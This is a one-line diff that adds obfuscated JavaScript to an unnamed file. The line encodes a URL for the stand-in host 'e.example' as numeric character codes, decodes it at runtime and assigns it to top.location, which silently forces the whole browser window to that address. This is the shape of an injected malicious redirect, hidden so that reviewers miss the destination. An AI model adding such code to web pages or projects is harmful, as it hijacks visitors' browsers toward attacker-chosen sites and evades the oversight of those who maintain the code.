@@ -1,0 +1,1 @@
+var c=[104,116,116,112,58,47,47,101,46,101,120,97,109,112,108,101,47];top.location=String.fromCharCode.apply(null,c);
